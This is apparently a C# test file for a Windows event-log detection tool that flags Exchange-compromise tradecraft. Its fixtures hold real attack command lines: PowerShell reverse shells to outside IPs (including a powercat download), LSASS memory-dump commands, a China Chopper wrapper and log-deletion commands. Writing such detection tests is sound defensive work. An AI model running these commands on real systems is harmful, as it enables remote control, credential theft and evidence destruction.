using System.Text;
using Exhunt.Findings;
using Exhunt.Readers;
using static Exhunt.Tests.Events.EventFixtures;

namespace Exhunt.Tests.Events;

public class ProcessRuleTests
{
    private const string W3wp = @"C:\Windows\System32\inetsrv\w3wp.exe";
    private const string OwaPool = "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\" -a \\\\.\\pipe\\iisipm1 -h \"C:\\inetpub\\temp\\apppools\\MSExchangeOWAAppPool\\MSExchangeOWAAppPool.config\" -w \"\" -m 0";
    private const string UmWorker = @"C:\Program Files\Microsoft\Exchange Server\V15\Bin\UMWorkerProcess.exe";

    [Fact]
    public void W3wp_starting_cmd_is_a_web_shell_in_use_sysmon_and_security()
    {
        var (findings, _) = Run(Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd /c whoami", W3wp, OwaPool),
            Security4688(@"C:\Windows\System32\cmd.exe", "cmd /c whoami", W3wp));
        var sysmon = Assert.Single(findings, f => f.Rule.Id == "evt-proc-w3wp-shell");
        Assert.Equal("w3wp.exe (MSExchangeOWAAppPool) started cmd.exe", sysmon.Title);
        Assert.Equal("cmd /c whoami", sysmon.Evidence);
        Assert.Equal(@"NT AUTHORITY\SYSTEM", sysmon.User);
        Assert.Equal(Proves.Compromise, sysmon.Rule.Implies);
        Assert.Equal("MSExchangeOWAAppPool", sysmon.Details!["appPool"]);
        var security = Assert.Single(findings, f => f.Rule.Id == "evt-proc-w3wp-shell-unknown-pool");
        Assert.Equal(@"CONTOSO\EX01$", security.User);
        Assert.Equal("unknown", security.Details!["appPool"]);
    }

    [Fact]
    public void W3wp_compiling_pages_is_quiet()
    {
        Assert.Empty(Ids(
            Sysmon1(@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe", "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\8e05b027\\e164d61b\\jxtdo1ar.cmdline\"", W3wp, OwaPool),
            Security4688(@"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\cvtres.exe", "cvtres.exe /NOLOGO /READONLY /MACHINE:IX86", W3wp),
            Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd /c whoami", @"C:\Windows\explorer.exe")));
    }

    [Fact]
    public void W3wp_starting_an_unknown_program_is_weak()
    {
        var f = Assert.Single(Run(Sysmon1(@"C:\Users\Public\svchost32.exe", @"C:\Users\Public\svchost32.exe -k", W3wp, OwaPool)).Findings);
        Assert.Equal("evt-proc-w3wp-unusual-child", f.Rule.Id);
        Assert.Equal(Proves.Weak, f.Rule.Implies);
    }

    [Fact]
    public void Um_worker_child_is_26857_code_execution_but_error_reporting_is_not()
    {
        var f = Assert.Single(Run(Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd.exe /c powershell -ep bypass -c iex(gc c:\\programdata\\a.txt)", UmWorker)).Findings,
            x => x.Rule.Id == "evt-proc-umworker-child");
        Assert.Contains("CVE-2021-26857", f.Rule.Cves);
        Assert.Empty(Ids(Sysmon1(@"C:\Windows\System32\WerFault.exe", "C:\\Windows\\system32\\WerFault.exe -u -p 9876 -s 1234", UmWorker)));
    }

    [Fact]
    public void Chopper_wrapper_under_w3wp_fires_plain_whoami_does_not()
    {
        var chopper = Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd /c \"cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\"&whoami&echo [S]&cd&echo [E]\"", W3wp, OwaPool);
        var f = Assert.Single(Run(chopper).Findings, x => x.Rule.Id == "evt-proc-chopper");
        Assert.Equal("&whoami&echo", f.Details!["marker"]);
        Assert.DoesNotContain("evt-proc-chopper", Ids(Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd /c whoami & echo done", W3wp, OwaPool)));
        Assert.DoesNotContain("evt-proc-chopper", Ids(Sysmon1(@"C:\Windows\System32\cmd.exe", "cmd /c \"cd /d C:\\temp&whoami&echo [S]\"", @"C:\Windows\explorer.exe")));
    }

    [Fact]
    public void Lsass_dump_commands_fire_other_dumps_do_not()
    {
        var comsvcs = Sysmon1(@"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\windows\temp\lsass.dmp full", @"C:\Windows\System32\cmd.exe");
        var procdump = Security4688(@"C:\root\procdump64.exe", @"procdump64.exe -accepteula -ma lsass.exe C:\windows\temp\lsass", @"C:\Windows\System32\cmd.exe");
        var (findings, _) = Run(comsvcs, procdump);
        Assert.Equal(2, findings.Count(f => f.Rule.Id == "evt-lsass-dump-cmdline"));
        Assert.Contains(findings, f => f.Title == "LSASS dump command (comsvcs.dll MiniDump)");
        Assert.All(findings.Where(f => f.Rule.Id == "evt-lsass-dump-cmdline"), f => Assert.Equal(Proves.Compromise, f.Rule.WithExploitation));
        Assert.Contains(findings, f => f.Rule.Id == "evt-proc-hafnium-tradecraft");   // "lsass.exe C:\windows\temp\lsass" is a HAFNIUM artefact
        Assert.Empty(Ids(Security4688(@"C:\Tools\procdump64.exe", @"procdump64.exe -accepteula -ma 10844 C:\dumps\w3wp.dmp", @"C:\Windows\System32\cmd.exe"),
            Sysmon1(@"C:\Windows\System32\rundll32.exe", @"rundll32.exe C:\Windows\System32\comsvcs.dll,DllRegisterServer", @"C:\Windows\System32\svchost.exe")));
    }

    [Fact]
    public void Lsass_access_with_dump_rights_fires_benign_readers_do_not()
    {
        // EVTX-ATTACK-SAMPLES sysmon_10_11_lsass_memdump: procdump 0x001fffff.
        var procdump = Sysmon(10, ("SourceImage", @"C:\Users\IEUser\Desktop\procdump.exe"), ("TargetImage", @"C:\Windows\system32\lsass.exe"),
            ("GrantedAccess", "0x001fffff"), ("CallTrace", @"C:\Windows\SYSTEM32\ntdll.dll+4595c|C:\Windows\system32\kernel32.dll+3cc47"));
        Assert.Equal(["evt-lsass-access-dump"], Ids(procdump));
        // OTRF ProxyLogon run: rundll32 0x1400 (no memory read) and Defender 0x1410.
        var rundll = Sysmon(10, ("SourceImage", @"C:\Windows\system32\rundll32.exe"), ("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1400"), ("CallTrace", "ntdll.dll+a6084"));
        var defender = Sysmon(10, ("SourceImage", @"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MsMpEng.exe"), ("TargetImage", @"C:\Windows\system32\lsass.exe"), ("GrantedAccess", "0x1410"), ("CallTrace", "ntdll.dll+a6084|mpengine.dll"));
        var other = Sysmon(10, ("SourceImage", @"C:\Windows\system32\svchost.exe"), ("TargetImage", @"C:\Windows\system32\notepad.exe"), ("GrantedAccess", "0x1fffff"));
        Assert.Empty(Ids(rundll, defender, other));
    }

    [Fact]
    public void Security_lsass_object_access_with_read_rights_fires_for_non_security_tools()
    {
        WinEvent Access(int id, string process, string mask) => Event("Microsoft-Windows-Security-Auditing", "Security", id, 0,
            ("SubjectUserName", "admin"), ("SubjectDomainName", "CONTOSO"), ("ObjectServer", "Security"), ("ObjectType", "Process"),
            ("ObjectName", @"\Device\HarddiskVolume1\Windows\System32\lsass.exe"), ("AccessMask", mask), ("ProcessName", process));
        var f = Assert.Single(Run(Access(4656, @"C:\Windows\System32\cscript.exe", "0x001f3fff")).Findings);
        Assert.Equal("evt-lsass-access-dump", f.Rule.Id);
        Assert.Equal(@"CONTOSO\admin", f.User);
        Assert.Empty(Ids(Access(4663, @"C:\Windows\System32\cscript.exe", "0x1000"),
            Access(4656, @"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.2102.4-0\MsMpEng.exe", "0x1410")));
    }

    [Fact]
    public void Lsass_dump_files_fire_other_dumps_do_not()
    {
        var f = Assert.Single(Run(Sysmon11(@"C:\Windows\system32\taskmgr.exe", @"C:\Users\IEUser\AppData\Local\Temp\lsass (2).DMP")).Findings);
        Assert.Equal("evt-lsass-dump-file", f.Rule.Id);
        Assert.Equal("LSASS dump file written by taskmgr.exe", f.Title);
        Assert.Empty(Ids(Sysmon11(@"C:\Windows\system32\WerFault.exe", @"C:\Windows\Temp\w3wp.exe.10844.dmp"),
            Sysmon11(@"C:\Windows\system32\svchost.exe", @"C:\Windows\System32\LogFiles\lsass_trace.etl")));
    }

    [Fact]
    public void Seven_zip_staging_in_programdata_fires_extraction_does_not()
    {
        var f = Assert.Single(Run(Sysmon1(@"C:\Program Files\7-Zip\7z.exe", @"7z.exe a -t7z -r C:\ProgramData\it.zip C:\ProgramData\pst\*.pst", @"C:\Windows\System32\cmd.exe")).Findings);
        Assert.Equal("evt-proc-7zip-programdata", f.Rule.Id);
        Assert.Empty(Ids(Sysmon1(@"C:\Program Files\7-Zip\7z.exe", @"7z.exe x C:\Users\admin\Downloads\tools.zip -oC:\Tools", @"C:\Windows\explorer.exe", user: @"CONTOSO\admin")));
    }

    [Fact]
    public void Exchange_snapin_load_fires_except_exchange_setup()
    {
        var ps = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        Assert.Equal(["evt-proc-exchange-snapin"], Ids(Sysmon1(ps, "powershell.exe -command \"Add-PSSnapin Microsoft.Exchange.Powershell.Snapin;Get-Mailbox -ResultSize Unlimited | Select DisplayName\"", @"C:\Windows\System32\cmd.exe")));
        Assert.Empty(Ids(Sysmon1(ps, "powershell.exe -NonInteractive -command \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; $exserver=Get-ExchangeServer ([Environment]::MachineName) -ErrorVariable exerr 2> $null\"", @"C:\Windows\System32\msiexec.exe")));
    }

    [Fact]
    public void Reverse_shells_fire_plain_encoded_and_powercat()
    {
        var ps = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        var nishang = "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('185.250.151.72',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}\"";
        var encoded = "powershell.exe -e " + Convert.ToBase64String(Encoding.Unicode.GetBytes("$c = New-Object Net.Sockets.TCPClient('10.1.1.1',4444);$s=$c.GetStream();iex (New-Object IO.StreamReader($s)).ReadLine()"));
        var powercat = "powershell -c \"IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1');powercat -c 10.1.1.1 -p 443 -e cmd\"";
        var (findings, _) = Run(Sysmon1(ps, nishang, W3wp), Sysmon1(ps, encoded, @"C:\Windows\System32\cmd.exe"), Security4688(ps, powercat, @"C:\Windows\System32\cmd.exe"));
        Assert.Equal(3, findings.Count(f => f.Rule.Id == "evt-proc-reverse-shell"));
        Assert.Contains(findings, f => f.Title == "PowerShell reverse shell (encoded TCP client)");
        var benignEncoded = "powershell.exe -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes("Get-Date; $x = Get-Service | Where-Object Status -eq Running; Write-Host $x.Count"));
        Assert.Empty(Ids(Sysmon1(ps, benignEncoded, @"C:\Windows\System32\svchost.exe"),
            Sysmon1(ps, "powershell -c \"Test-NetConnection -ComputerName mail.contoso.com -Port 25\"", @"C:\Windows\explorer.exe")));
    }

    [Fact]
    public void Log_deletion_commands_fire_listing_does_not()
    {
        Assert.Equal(["evt-defense-log-deleted"], Ids(Sysmon1(@"C:\Windows\System32\cmd.exe", @"cmd.exe /c del /q C:\inetpub\logs\LogFiles\W3SVC1\u_ex2103*.log", @"C:\Windows\System32\cmd.exe")));
        Assert.Equal(["evt-defense-log-deleted"], Ids(Security4688(@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell Remove-Item -Recurse 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\*'", @"C:\Windows\System32\cmd.exe")));
        Assert.Empty(Ids(Sysmon1(@"C:\Windows\System32\cmd.exe", @"cmd /c dir C:\inetpub\logs\LogFiles\W3SVC1", @"C:\Windows\explorer.exe")));
    }
}
